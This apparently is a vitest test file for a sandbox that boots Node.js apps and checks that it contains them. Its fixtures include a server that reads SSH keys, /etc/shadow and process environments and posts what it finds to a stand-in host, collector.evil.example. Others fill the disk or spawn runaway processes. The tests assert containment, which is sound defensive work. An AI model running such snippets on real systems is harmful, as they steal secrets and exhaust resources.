import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { createRequire } from 'node:module'
import { homedir, tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, describe, expect, test } from 'vitest'
import { readCatalogue } from '#database/read'
import { openFacts } from '#facts/cache'
import { buildModel } from '#model/build'
import { prove } from '#prove'
import { readSource } from '#source/read'
import { openLab } from './open.js'
import type { OpenLab } from './run/open-lab.js'
import type { LabOptions } from './run/options.js'
import { sealAble } from './seal/kind.js'
import { compiled } from './seal/ours.js'

// Whole boots: they need what `npm run build` makes, since the inside of the seal runs plain JavaScript.
const ready = sealAble().able && existsSync(compiled('lab/supervisor/main.js'))
const LONG = 60_000

describe.skipIf(!ready)('lab', () => {
  const root = mkdtempSync(join(tmpdir(), 'lab-'))
  afterAll(() => rmSync(root, { recursive: true, force: true }))

  async function boot(name: string, server: string, limits: LabOptions['limits'] = {}): Promise<OpenLab> {
    const folder = join(root, name)
    mkdirSync(folder)
    writeFileSync(join(folder, 'package.json'), JSON.stringify({ name, scripts: { start: 'node server.js' } }))
    writeFileSync(join(folder, '.env'), 'SESSION_SECRET=the-real-one\n')
    writeFileSync(join(folder, 'server.js'), server)
    const source = await readSource(folder)
    const model = await buildModel(source, openFacts(source, undefined), await readCatalogue(source))
    return openLab(source, model, { seed: 'test', cache: join(root, 'cache'), limits })
  }
  const serve = (answer: string): string =>
    `const http = require('node:http'), fs = require('node:fs'), { spawn } = require('node:child_process')\nhttp.createServer(async (request, response) => { ${answer} }).listen(process.env.PORT)\n`

  test('boots, sends, records what goes out, and puts memory back', { timeout: LONG }, async () => {
    const lab = await boot(
      'plain',
      `let visits = 0\n${serve("const out = await fetch('https://api.stripe.com/v1/unknown', { method: 'POST', body: 'amount=5' }); response.setHeader('set-cookie', 'sid=1; Secure; Path=/'); response.end(JSON.stringify({ visits: ++visits, cookie: request.headers.cookie, secret: process.env.SESSION_SECRET, file: fs.readFileSync('.env', 'utf8'), out: out.status, home: fs.readdirSync('/root').length }))")}`,
    )
    try {
      expect(lab.boot).toMatchObject({ outcome: 'running' })
      const first = await lab.send({ actor: 'a', method: 'GET', path: '/' })
      expect(first.json).toMatchObject({ home: 0 })
      expect(first.text).not.toContain('the-real-one')
      expect(first.json).toMatchObject({ secret: lab.env('SESSION_SECRET') })
      expect((await lab.send({ actor: 'a', method: 'GET', path: '/' })).json).toMatchObject({ cookie: 'sid=1' })
      expect((await lab.send({ actor: 'nobody', method: 'GET', path: '/' })).text).not.toContain('sid=1')
      expect((await lab.calls()).filter(call => call.host === 'api.stripe.com')).toMatchObject([
        { method: 'POST' },
        { method: 'POST' },
        { method: 'POST' },
        {},
      ])
      await lab.reset()
      expect(await lab.calls()).toEqual([])
      expect(Number((/"visits":(\d+)/.exec((await lab.send({ actor: 'nobody', method: 'GET', path: '/' })).text) ?? [])[1])).toBeLessThan(4)
    } finally {
      await lab.close()
    }
  })

  test('finds a cluster that code spells out, and an app that listens at one address', { timeout: LONG }, async () => {
    const driver = createRequire(import.meta.url).resolve('mongodb')
    const lab = await boot(
      'cluster',
      `let driver
try { driver = require('mongodb') } catch { driver = require('${driver}') }
require('node:dns').setServers(['8.8.8.8'])
const client = new driver.MongoClient('mongodb+srv://anna:h0sen@shop.k3x.example.net/shop?retryWrites=true&w=majority')
require('node:http').createServer(async (request, response) => {
  await client.db().collection('seen').insertOne({})
  response.end(String(await client.db().collection('seen').countDocuments()))
}).listen(4321, '192.168.7.7')
`,
    )
    try {
      expect(lab.boot, JSON.stringify(lab.boot)).toMatchObject({ outcome: 'running' })
      expect(Number((await lab.send({ actor: 'nobody', method: 'GET', path: '/' })).text)).toBeGreaterThan(0)
    } finally {
      await lab.close()
    }
  })

  test('starts an app again that dies, and counts it; gives up on an answer that never comes', { timeout: LONG }, async () => {
    const lab = await boot(
      'dies',
      serve("if (request.url === '/die') process.exit(1); if (request.url === '/hang') return; response.end('up')"),
    )
    try {
      expect((await lab.send({ actor: 'nobody', method: 'GET', path: '/die' })).status).toBe(0)
      expect((await lab.send({ actor: 'nobody', method: 'GET', path: '/' })).text).toBe('up')
      expect(lab.deaths()).toBe(1)
      const hung = await lab.send({ actor: 'nobody', method: 'GET', path: '/hang', limit: 500 })
      expect(hung).toMatchObject({ status: 0 })
      expect(hung.milliseconds).toBeLessThan(2_000)
    } finally {
      await lab.close()
    }
  })

  test('ends an app that fills the disk, and says so', { timeout: LONG }, async () => {
    const lab = await boot(
      'fills',
      serve("if (request.url === '/fill') setInterval(() => fs.appendFileSync('junk', Buffer.alloc(5e6)), 5); response.end('up')"),
      {
        disk: 100_000_000,
      },
    )
    try {
      await lab.send({ actor: 'nobody', method: 'GET', path: '/fill' })
      await expect.poll(async () => (await lab.state()).contained, { timeout: 30_000 }).toMatchObject([/wrote \d+ MB/])
      expect((await lab.state()).running).toBe(false)
    } finally {
      await lab.close()
    }
  })

  test(
    'shows an app that listens everywhere, phones out and looks for keys a world in which there is nothing',
    { timeout: LONG },
    async () => {
      const keys = mkdtempSync(join(homedir(), '.ssh-'))
      writeFileSync(join(keys, 'id_ed25519'), 'TOP SECRET')
      const ports = [22, 8080, 9999, 31_337]
      const lab = await boot(
        'nosy',
        serve(`
        const found = []
        for (const port of ${JSON.stringify(ports)}) await new Promise(done => http.createServer((_, answer) => answer.end('mine')).on('error', done).listen(port, '0.0.0.0', done))
        const look = path => { try { found.push(fs.readFileSync(path, 'utf8')) } catch { try { found.push(...fs.readdirSync(path)) } catch {} } }
        for (const path of ['${keys}', '${keys}/id_ed25519', require('node:os').homedir() + '/.ssh', '/root/.ssh', '/home', '/etc/shadow', '/proc/1/environ', '/var/run/docker.sock']) look(path)
        const told = await fetch('https://collector.evil.example/take', { method: 'POST', body: 'all I found' }).then(r => r.status, e => String(e.cause))
        const bare = await fetch('http://203.0.113.7:8443/', { signal: AbortSignal.timeout(2000) }).then(() => 'reached', () => 'nothing')
        response.end(JSON.stringify({ found, told, bare }))`),
      )
      try {
        const { json } = await lab.send({ actor: 'nobody', method: 'GET', path: '/' })
        expect(json).toMatchObject({ bare: 'nothing' })
        expect(JSON.stringify(json)).not.toMatch(/TOP SECRET|id_ed25519|root:/)
        // What it tells others is written down, and goes nowhere.
        expect(await lab.calls()).toContainEqual(expect.objectContaining({ host: 'collector.evil.example', body: 'all I found' }))
        for (const port of ports)
          expect(
            await fetch(`http://127.0.0.1:${port}/`).then(
              answer => answer.text(),
              () => 'nothing',
            ),
          ).not.toBe('mine')
      } finally {
        await lab.close()
        rmSync(keys, { recursive: true, force: true })
      }
    },
  )

  test('the report says what an app was ended for', { timeout: LONG }, async () => {
    const folder = join(root, 'report')
    mkdirSync(folder)
    writeFileSync(join(folder, 'package.json'), JSON.stringify({ name: 'report', scripts: { start: 'node server.js' } }))
    const fork = "for (let i = 0; i < 90; i++) spawn('sleep', ['600'], { detached: true, stdio: 'ignore' }).on('error', () => {})"
    writeFileSync(join(folder, 'server.js'), serve(`${fork}; setTimeout(() => response.end('up'), 3000)`))
    const { report } = await prove(folder, { limits: { processes: 60 } })
    expect(report.lab?.contained ?? [report.lab?.why]).toMatchObject([expect.stringMatching(/ran \d+ processes/)])
  })

  test('ends an app that multiplies, ignores SIGTERM and leaves daemons', { timeout: LONG }, async () => {
    const lab = await boot(
      'forks',
      serve(
        "process.on('SIGTERM', () => {}); if (request.url === '/fork') for (let i = 0; i < 60; i++) spawn('sleep', ['600'], { detached: true, stdio: 'ignore' }).on('error', () => {}).unref(); response.end('up')",
      ),
      { processes: 60 },
    )
    try {
      await lab.send({ actor: 'nobody', method: 'GET', path: '/fork' })
      await expect.poll(async () => (await lab.state()).contained, { timeout: 30_000 }).toMatchObject([/ran \d+ processes/])
    } finally {
      await lab.close()
    }
    expect(existsSync(join(root, 'cache', 'runs')) && lab.boot.outcome).toBe('running')
  })

  test('says in one sentence why an app did not boot', { timeout: LONG }, async () => {
    const lab = await boot('broken', "throw new Error('DATABASE_HOST is missing')")
    expect(lab.boot.outcome).toBe('failed')
    expect(lab.boot.why).toContain('DATABASE_HOST is missing')
    expect(lab.boot.help).toBeTruthy()
    await lab.close()
  })
})
